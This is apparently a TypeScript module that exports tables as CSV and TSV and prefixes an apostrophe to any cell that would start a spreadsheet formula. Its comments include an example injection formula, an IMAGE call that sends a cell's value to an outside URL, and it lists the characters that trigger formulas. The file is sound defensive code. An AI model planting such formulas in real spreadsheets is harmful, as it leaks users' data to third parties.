/**
 * Tables as CSV for download: RFC 4180 (https://www.rfc-editor.org/rfc/rfc4180) with CRLF line
 * ends, plus a guard against spreadsheet formula injection, because the cells come from a
 * file and a model and the person will open the download in Excel or Sheets.
 */
import type { Cell } from './cell.ts';
import { dateKind, STANDARD_CSV, type CsvDialect } from './csv-dialect.ts';
import { isNumericType } from './column-type.ts';

/**
 * Characters that make a spreadsheet read a text cell as a formula (OWASP, "CSV Injection").
 * Such a cell gets a leading apostrophe, which spreadsheets show as text and do not evaluate.
 * One list for the page's CSV and the one DuckDB writes (`textFieldSql`, sql/csv-sql.ts).
 */
export const FORMULA_FIRST = ['=', '+', '-', '@', '\t', '\r'];
/**
 * A number written as text (a BIGINT or DECIMAL kept exact, `-5` in a text column): a sheet
 * reads it as the number, runs nothing, and an apostrophe would make it text. `-2+3` is not one.
 */
export const PLAIN_NUMBER = '[+-]?(?:[0-9]+[.]?[0-9]*|[.][0-9]+)(?:[eE][+-]?[0-9]+)?';
const plainNumber = new RegExp(`^${PLAIN_NUMBER}$`);
const startsFormula = (text: string): boolean =>
  FORMULA_FIRST.includes(text.charAt(0)) && !plainNumber.test(text);
/**
 * The text with a leading apostrophe where a spreadsheet would read it as a formula: every text
 * that leaves for a sheet passes here (the CSV, Copy's TSV, the report's tables; issue 46).
 */
export const guarded = (text: string): string => (startsFormula(text) ? `'${text}` : text);

/** Characters that make a field need quotes, with the dialect's separator. */
const needsQuotes = (separator: string) => (separator === ';' ? /[";\r\n]/ : /[",\r\n]/);

/** A column as the file writes it: its name, and its DuckDB type where known. */
export interface CsvColumn {
  name: string;
  type?: string;
}

const ISO_DATE = /^(\d{4})-(\d{2})-(\d{2})(.*)$/;

/** An ISO date (or timestamp) as the dialect writes it; other text as it is. */
export function dialectDate(iso: string, dialect: CsvDialect): string {
  const m = ISO_DATE.exec(iso);
  if (!m || dialect.kind === 'standard') return iso;
  const date = dialect.dateFormat.replace('%Y', m[1]!).replace('%m', m[2]!).replace('%d', m[3]!);
  return `${date}${m[4]!}`;
}

function field(cell: Cell, type: string | undefined, dialect: CsvDialect): string {
  if (cell === null) return '';
  if (typeof cell === 'boolean') return String(cell);
  // -Infinity and NaN are no number a sheet reads: text, guarded like any (`'-Infinity`).
  if (typeof cell === 'number' && !Number.isFinite(cell))
    return textField(String(cell), dialect.separator);
  // A number: a 64-bit integer or a DECIMAL may come as its exact text (a list of numbers is
  // text, quoted as any).
  if (typeof cell === 'number' || (type && isNumericType(type) && typeof cell === 'string')) {
    const text = String(cell);
    return dialect.decimal === ',' ? text.replace('.', ',') : text;
  }
  if (type && dateKind(type)) return textField(dialectDate(cell, dialect), dialect.separator);
  return textField(cell, dialect.separator);
}

/** A text cell, guarded against formula injection and quoted where it needs to be. */
export function textField(text: string, separator: ',' | ';' = ','): string {
  const safe = guarded(text);
  return needsQuotes(separator).test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
}

/**
 * The header line and one line per row, each ended by CRLF, in the dialect (the standard file
 * unless told: csv-dialect.ts), with a byte-order mark first where the dialect has one. Headers
 * are guarded like cells; `columns` may be names alone, or names with their types, which a
 * file for Excel needs to write numbers and dates in the locale's way.
 */
export function toCsv(
  columns: readonly (string | CsvColumn)[],
  rows: readonly (readonly Cell[])[],
  dialect: CsvDialect = STANDARD_CSV,
): string {
  const cols = columns.map((c) => (typeof c === 'string' ? { name: c } : c));
  const sep = dialect.separator;
  const lines = [cols.map((c) => textField(c.name, sep)).join(sep)];
  for (const row of rows) lines.push(row.map((v, i) => field(v, cols[i]?.type, dialect)).join(sep));
  return `${dialect.bom ? '\ufeff' : ''}${lines.join('\r\n')}\r\n`;
}

/**
 * The table as tab-separated text, which spreadsheets and documents paste as a table (the copy
 * buttons). A tab or line break inside a cell would start another cell or row: it becomes a space.
 */
export function toTsv(headers: readonly string[], rows: readonly (readonly Cell[])[]): string {
  // Pasted into a sheet, a text that starts like a formula runs (`=IMAGE("https://…?d="&B2)`):
  // it is guarded as the CSV's cells are (issue 46), and so is a number no sheet reads (-Infinity).
  const cell = (value: Cell | string) =>
    value === null
      ? ''
      : typeof value === 'number' && Number.isFinite(value)
        ? String(value)
        : guarded(String(value)).replace(/[\t\r\n]+/g, ' ');
  return [headers, ...rows].map((row) => row.map(cell).join('\t')).join('\n') + '\n';
}
